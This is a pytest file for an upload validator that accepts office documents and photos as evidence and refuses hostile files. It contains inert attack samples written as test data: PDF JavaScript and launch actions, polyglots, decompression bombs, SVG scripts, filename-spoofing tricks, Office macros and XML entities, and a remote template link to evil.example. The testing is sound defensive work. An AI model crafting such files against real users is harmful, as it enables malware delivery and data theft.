"""R45, R46, R48, R49: what is taken, and what is refused with advice."""

import hashlib
import stat
import threading
import time
import zlib
from io import BytesIO

import pytest
from PIL import Image
from werkzeug.datastructures import FileStorage, MultiDict

from partybuild.evidence import kinds, office, pdf, pictures, rules, store
from partybuild.evidence.arrivals import received
from partybuild.evidence.rules import Slot
from partybuild.rules import RuleBroken
from tests.evidence import papers
from tests.imports import files

pytestmark = pytest.mark.usefixtures("database")
OLD_WORD = b"\xec\xa5\xc1\x00" + bytes(4092)
LOCKED_WORD = b"\xec\xa5\xc1\x00" + bytes(6) + b"\x00\x01" + bytes(4084)
SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
RELATION = (
    b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a/>'


def objects(content, how=b"/Filter /FlateDecode", squeeze=zlib.compress):
    return papers.pdf(papers.stream(b"/Type /ObjStm /N 1 /First 4 " + how, squeeze(content)))


LONG_TAG = b"<a TargetMode " + b"oleObject Target" * 100_000 + b"/>"
SQUEEZED = papers.stream(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(b"3 0 <<>>"))
GOOD = {
    "照片.jpg": papers.picture,
    "扫描.png": lambda: papers.picture("PNG"),
    "截图.webp": lambda: papers.picture("WEBP"),
    "批复.pdf": papers.pdf,
    "压缩对象.pdf": lambda: objects(b"3 0 << /Type /Page >>"),
    "章程.docx": papers.document,
    "名单.xlsx": papers.workbook,
    "旧章程.doc": lambda: files.compound({"WordDocument": OLD_WORD}),
    "纪要.wps": lambda: files.compound({"WordDocument": OLD_WORD}),
    "旧名单.xls": lambda: files.compound({"Workbook": files.old_book([["甲"]])}),
    "名单.et": lambda: files.compound({"Workbook": files.old_book([["甲"]])}),
}
HOSTILE = {
    "an empty file": ("a.pdf", b"", rules.EMPTY),
    "too large": ("a.pdf", lambda: b"%PDF-" + bytes(rules.MAX_BYTES), rules.TOO_LARGE),
    "a program": ("a.exe", b"MZ", kinds.PROGRAM),
    "a program renamed": ("a.pdf", b"MZ\x90" + bytes(100), kinds.PROGRAM),
    "a program as a photo": ("a.jpg", b"MZ\x90" + bytes(100), kinds.PROGRAM),
    "two suffixes": ("a.pdf.exe", b"%PDF-1.7", kinds.PROGRAM),
    "a suffix turned round": ("章程\u202efdp.scr", b"%PDF-1.7", kinds.PROGRAM),
    "a suffix behind NUL": ("a.pdf\0.svg", b"%PDF-1.7", kinds.WEB_PAGE),
    "drawing code": ("a.svg", b"<svg/>", kinds.WEB_PAGE),
    "drawing code renamed": ("a.png", b"  <SVG onload=x>", kinds.WEB_PAGE),
    "a page renamed": ("a.doc", b"\xff\xfe<\0h\0t\0m\0l\0>\0", kinds.WEB_PAGE),
    "a zip": ("a.zip", b"PK\x03\x04", kinds.PACKED),
    "text": ("a.csv", "甲,乙".encode(), kinds.TEXT),
    "ofd": ("a.ofd", b"PK\x03\x04", kinds.OFD),
    "macros by name": ("a.docm", b"PK\x03\x04", kinds.MACROS),
    "no suffix": ("章程", b"%PDF-1.7", kinds.OTHER),
    "heic": ("IMG_1.HEIC", b"\0\0\0\x18ftypheic", kinds.HEIC),
    "heic renamed": ("IMG_1.jpg", b"\0\0\0\x18ftypheic\0\0\0\0", kinds.HEIC),
    "a pdf that is none": ("a.pdf", papers.picture(), kinds.DISGUISED),
    "a photo that is none": ("a.png", papers.pdf(), kinds.DISGUISED),
    "half a photo": ("a.jpg", papers.located()[:-200], pictures.BROKEN),
    "100k × 100k": ("a.png", papers.huge_png(), pictures.TOO_MANY_PIXELS),
    "a long strip": ("a.png", papers.picture("PNG", (20_001, 1)), pictures.TOO_MANY_PIXELS),
    "half a pdf": ("a.pdf", papers.pdf()[:60], pdf.DAMAGED),
    "pdf and page": ("a.pdf", b"%PDF-1.7\n<html><script>x</script>" + papers.pdf(), pdf.POLYGLOT),
    "pdf and zip": ("a.pdf", papers.pdf(tail=b"PK\x03\x04rest"), pdf.POLYGLOT),
    "pdf script": ("a.pdf", papers.pdf(SCRIPT), pdf.ACTS),
    "pdf script spelt": ("a.pdf", papers.pdf(b"<< /S /J#61va#53cript >>"), pdf.ACTS),
    "pdf launching": ("a.pdf", papers.pdf(b"<< /S /Launch /F (cmd) >>"), pdf.ACTS),
    "pdf with a file": ("a.pdf", papers.pdf(b"<< /Type /EmbeddedFile >>"), pdf.ACTS),
    "pdf script squeezed": ("a.pdf", objects(b"3 0 " + SCRIPT), pdf.ACTS),
    "pdf script squeezed otherwise": (
        "a.pdf",
        objects(SCRIPT, b"/Filter /X", lambda c: c.hex().encode()),
        pdf.ACTS,
    ),
    "pdf bomb": ("a.pdf", lambda: objects(bytes(pdf.MOST_INFLATED + 9)), pdf.ACTS),
    "pdf stream behind a comment": (
        "a.pdf",
        papers.pdf(
            b"<< /Type /ObjStm >> %stream\n stream\n" + zlib.compress(SCRIPT) + b"\nendstream"
        ),
        pdf.ACTS,
    ),
    "pdf locked": ("a.pdf", papers.pdf(b"<< /Encrypt 9 0 R >>"), pdf.LOCKED),
    "macros": (
        "a.docx",
        papers.with_part(papers.document(), "word/vbaProject.bin", b"x"),
        office.HAS_MACROS,
    ),
    "entities": (
        "a.docx",
        papers.with_part(papers.document(), "word/x.xml", ENTITY),
        office.DECLARES,
    ),
    "entities in UTF-16": (
        "a.docx",
        papers.with_part(papers.document(), "word/x.xml", ENTITY.encode("utf-16")),
        office.DECLARES,
    ),
    "a template from outside": (
        "a.docx",
        papers.with_part(papers.document(), "word/_rels/settings.xml.rels", RELATION),
        office.REMOTE,
    ),
    "a template from outside behind padding": (
        "a.docx",
        papers.with_part(
            papers.document(),
            "word/_rels/settings.xml.rels",
            RELATION.replace(b"Type=", b'Pad="' + b"x" * 9000 + b'" Type='),
        ),
        office.DAMAGED,
    ),
    "bomb": (
        "a.docx",
        lambda: papers.with_part(papers.document(), "word/b.bin", bytes(office.MOST_INFLATED + 1)),
        office.TOO_BIG_INSIDE,
    ),
    "a workbook as letter": ("a.docx", papers.workbook(), office.ANOTHER),
    "half a letter": ("a.docx", papers.document()[:3000], office.DAMAGED),
    "old macros": (
        "a.doc",
        files.compound({"WordDocument": OLD_WORD, "_VBA_PROJECT": b"x"}),
        office.HAS_MACROS,
    ),
    "old password": ("a.doc", files.compound({"WordDocument": LOCKED_WORD}), office.HAS_PASSWORD),
    "new password": ("a.docx", files.compound({"EncryptedPackage": b"x"}), kinds.DISGUISED),
    "an old workbook as letter": ("a.wps", files.compound({"Workbook": b"x"}), office.ANOTHER),
    "a noise": ("a.doc", files.SIGNATURE + bytes(4000), office.DAMAGED),
}


@pytest.mark.parametrize("name", GOOD)
def test_what_offices_use_is_taken(name):
    found = papers.arrived(name, GOOD[name]())

    assert found.name == name
    assert found.clean
    path = store.path_of(found.digest)
    assert hashlib.sha256(path.read_bytes()).hexdigest() == found.digest
    assert path.stat().st_size == found.size
    assert stat.S_IMODE(path.stat().st_mode) == 0o400


@pytest.mark.parametrize("case", HOSTILE)
def test_what_may_not_be_kept_is_refused_with_advice(case):
    name, content, sentence = HOSTILE[case]
    before = everything()

    with pytest.raises(RuleBroken) as refused:
        papers.arrived(name, content() if callable(content) else content)

    start, _, end = sentence.partition("%s")
    assert str(refused.value).startswith(start)
    assert str(refused.value).endswith(end)
    assert everything() == before


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.docx", lambda: papers.with_part(papers.document(), "w.xml", LONG_TAG)),
        ("a.pdf", lambda: papers.pdf(*[SQUEEZED] * 20_000)),
    ],
    ids=["one long tag", "many squeezed objects"],
)
def test_what_is_made_to_be_slow_is_not(name, content):
    content = content()
    begun = time.process_time()
    papers.arrived(name, content)
    assert time.process_time() - begun < 2


def everything():
    return sorted(path for path in store.folder().rglob("*") if path.is_file())


class TestPictures:
    def test_r49_where_and_with_what_is_gone_and_the_photo_stands_upright(self):
        found = papers.arrived("IMG.jpg", papers.located())

        kept = store.path_of(found.digest).read_bytes()
        with Image.open(BytesIO(kept)) as opened:
            assert opened.size == (40, 60)
            assert not opened.getexif()
            assert "comment" not in opened.info
        assert b"CameraMaker" not in kept
        assert b"at home" not in kept
        assert found.reworked

    def test_what_hangs_behind_a_photo_is_gone(self):
        found = papers.arrived("IMG.png", papers.picture("PNG") + b"PK\x03\x04<script>")

        assert b"script" not in store.path_of(found.digest).read_bytes()

    def test_a_photo_renamed_by_a_messenger_gets_its_true_suffix(self):
        found = papers.arrived("mmexport1.png", papers.picture("JPEG"))

        assert (found.name, found.media) == ("mmexport1.jpg", "image/jpeg")


class TestStore:
    def test_the_same_content_is_stored_once(self):
        found = {papers.arrived(f"{n}.pdf").digest for n in range(3)}
        assert len(found) == 1
        place = store.path_of(found.pop()).parent
        assert len(list(place.iterdir())) == 1

    def test_the_same_content_at_the_same_moment_is_one_whole_file(self, app):
        content, found, wrong = papers.pdf(b"<< /At /Once >>"), [], []

        def send():
            with app.app_context():
                try:
                    found.append(papers.arrived("a.pdf", content).digest)
                except Exception as error:
                    wrong.append(error)

        threads = [threading.Thread(target=send) for _ in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

        assert not wrong
        assert len(found) == 8
        assert store.path_of(found[0]).read_bytes() == content
        assert not list((store.folder() / "arriving").iterdir())


class TestScanner:
    @pytest.mark.parametrize(("words", "clean"), [("true", True), ("false", False)])
    def test_r48_its_word_is_kept(self, monkeypatch, words, clean):
        monkeypatch.setenv("PARTYBUILD_SCANNER", words)
        assert papers.arrived().clean is clean

    @pytest.mark.parametrize("words", ["/no/such/scanner", "sh -c 'exit 2'"])
    def test_r48_without_an_answer_nothing_is_taken(self, monkeypatch, words):
        monkeypatch.setenv("PARTYBUILD_SCANNER", words)
        with pytest.raises(RuleBroken, match="病毒检查没有完成"):
            papers.arrived()


def test_a_form_gives_its_files_by_slot():
    sent = MultiDict(
        [
            ("paper-charter", FileStorage(BytesIO(papers.pdf()), "章程.pdf")),
            ("paper-charter", FileStorage(BytesIO(papers.picture()), "第二页.jpg")),
            ("paper-pledge", FileStorage(BytesIO(b""), "")),
            ("paper-other", FileStorage(BytesIO(b"MZ"), "x.exe")),
        ]
    )

    found = received(sent, [Slot("charter", "章程"), Slot("pledge", "承诺书")])

    assert [(p.slot, p.file.name) for p in found] == [
        ("charter", "章程.pdf"),
        ("charter", "第二页.jpg"),
    ]
